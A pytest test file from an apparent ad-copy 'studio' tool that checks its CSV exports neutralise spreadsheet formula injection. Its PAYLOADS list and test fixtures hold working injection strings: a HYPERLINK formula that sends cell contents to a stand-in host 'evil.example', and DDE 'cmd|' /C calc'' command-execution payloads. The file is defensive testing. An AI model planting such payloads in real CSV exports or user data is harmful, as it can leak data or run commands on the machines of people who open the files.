"""Class 1: spreadsheet formulas in the CSVs the studio writes.

Before: the audit-log download, the test dashboard CSV, ``studio generate --output`` and the
``studio ctr`` tables wrote cells beginning with ``= + - @`` as they were; a name typed on the
sign-in page, with no account behind it, landed in the audit CSV as a live formula. Now every one
of them goes through :mod:`studio.core.csvfiles`, which puts a ``'`` in front of such text (plain
numbers such as ``-0.5`` stay numbers).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlmodel import Session
from typer.testing import CliRunner

from studio.cli import app
from studio.cli.generate import _write_csv
from studio.core import audit
from studio.core.csvfiles import neutralise
from studio.experiments import lifecycle as ex
from studio.review import accounts as auth
from tests.experiments.conftest import make_variants

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _live(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run (starts with a trigger and is not a plain number)."""
    return [c for c in cells if neutralise(c) != c]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_quotes_formulas(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-0.5", "+3", "1e-06", "-12", "plain text", "", 42, None, -1.5])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert neutralise(value) == value


def test_a_name_typed_on_the_sign_in_page_never_reaches_the_audit_csv(session: Session) -> None:
    for payload in PAYLOADS:
        with pytest.raises(auth.AuthenticationFailed):
            auth.authenticate(session, username=payload, password="guess")
    session.commit()
    text = audit.to_csv(audit.list_entries(session, limit=100))
    assert _live(_cells(text)) == []
    assert all(payload not in text for payload in PAYLOADS)  # only a fingerprint is kept


def test_every_audit_cell_is_neutralised(session: Session) -> None:
    for payload in PAYLOADS:
        audit.record(
            session,
            actor=payload[:64],
            action=payload[:64],
            entity_type=payload[:32],
            entity_id=payload,
            after={"name": payload},
        )
    session.commit()
    cells = _cells(audit.to_csv(audit.list_entries(session, limit=100)))
    assert _live(cells) == []
    assert "'" + PAYLOADS[0] in cells  # kept, readable, and inert


def test_the_dashboard_csv_neutralises_headlines(session: Session, people) -> None:
    variants = make_variants(session, n=2)
    variants[0].fields = {**variants[0].fields, "headline": '=HYPERLINK("https://x.example")'}
    session.add(variants[0])
    session.commit()
    experiment = ex.create_test(
        session,
        name="=1+1",
        brand="halden-coffee",
        persona="home-baristas",
        channel="meta_feed",
        variant_ids=[v.id for v in variants],
        actor="mia",
    )
    session.commit()
    text = ex.dashboard_csv(ex.dashboard(session, experiment.id))
    cells = _cells(text)
    assert _live(cells) == []
    assert '\'=HYPERLINK("https://x.example")' in cells


def test_generate_output_neutralises_copy(tmp_path: Path) -> None:
    path = tmp_path / "variants.csv"
    record = {
        "variant_id": 1,
        "campaign_id": 1,
        "persona": "=persona",
        "channel": "meta_feed",
        "fields": {"headline": "=1+1", "primary_text": "@SUM(A1)", "description": "-fresh+1"},
        "predicted_ctr": -0.5,
        "backend": "offline",
        "model": "m",
        "seed": 1,
        "prompt_template": "t",
        "prompt_hash": "h",
        "flagged": False,
        "violations": [{"field": "headline", "reason": "=bad"}],
        "repairs": ["+x"],
    }
    _write_csv(path, [record])
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    assert _live([c for r in rows for c in r.values()]) == []
    assert rows[0]["headline"] == "'=1+1" and rows[0]["predicted_ctr"] == "-0.5"
    assert list(tmp_path.iterdir()) == [path]  # written atomically, no temporary file left


def test_ctr_import_report_table_neutralises_ad_text(tmp_path: Path) -> None:
    report = tmp_path / "google.csv"
    report.write_text(
        "Ad report\nJanuary 1, 2024 - January 14, 2024\n"
        "Ad group,Headline 1,Day,Impr.,Clicks,CTR\n"
        '=cmd|x,"=HYPERLINK(""https://evil.example"")",2024-01-02,"1,200",30,2.50%\n'
        "Beans,+Roasted today,2024-01-03,900,12,1.33%\n",
        encoding="utf-8",
    )
    table = tmp_path / "table.csv"
    result = CliRunner().invoke(app, ["ctr", "import-report", str(report), "--output", str(table)])
    assert result.exit_code == 0, result.output
    cells = _cells(table.read_text(encoding="utf-8"))
    assert _live(cells) == []
    assert "'+Roasted today" in cells
